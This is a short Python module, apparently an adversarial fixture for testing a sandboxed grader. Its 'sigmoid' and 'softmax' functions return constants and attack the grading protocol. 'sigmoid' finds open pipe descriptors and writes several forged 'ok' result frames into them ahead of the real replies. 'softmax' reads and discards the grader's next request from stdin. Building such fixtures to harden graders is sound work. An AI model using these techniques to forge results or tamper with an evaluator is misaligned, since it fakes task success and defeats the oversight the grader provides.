"""Tampers with the worker's own protocol: writes forged "ok" frames straight to the reply pipe (several ahead), and steals the grader's next request from stdin.

attack: forging results from inside the worker (the reply pipe), the worker being untrusted
targets: sigmoid, softmax
"""
import os as _os
import stat as _stat
import struct as _struct
import sys as _sys


def _frame(value):
    codec = getattr(_sys.modules.get("__main__"), "codec", None)  # the worker's own encoder
    return codec.encode({"ok": True, "value": value, "error": None, "warnings": []}) if codec else b"junk"


def _reply_fds():
    fds = []
    for fd in range(3, 64):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode) and _os.get_blocking(fd) is not None:
                fds.append(fd)
        except OSError:
            pass
    return fds


def sigmoid(z):
    payload = _frame(np.full(np.shape(z), 0.5))
    for fd in _reply_fds():
        for _ in range(5):  # forged replies queued ahead of the real ones
            try:
                _os.write(fd, _struct.pack("<Q", len(payload)) + payload)
            except OSError:
                pass
    return np.full(np.shape(z), 0.5)


def softmax(Z):
    try:
        _os.read(0, 1 << 16)  # swallow whatever the grader sends next
    except OSError:
        pass
    return np.full(np.shape(Z), 0.25)
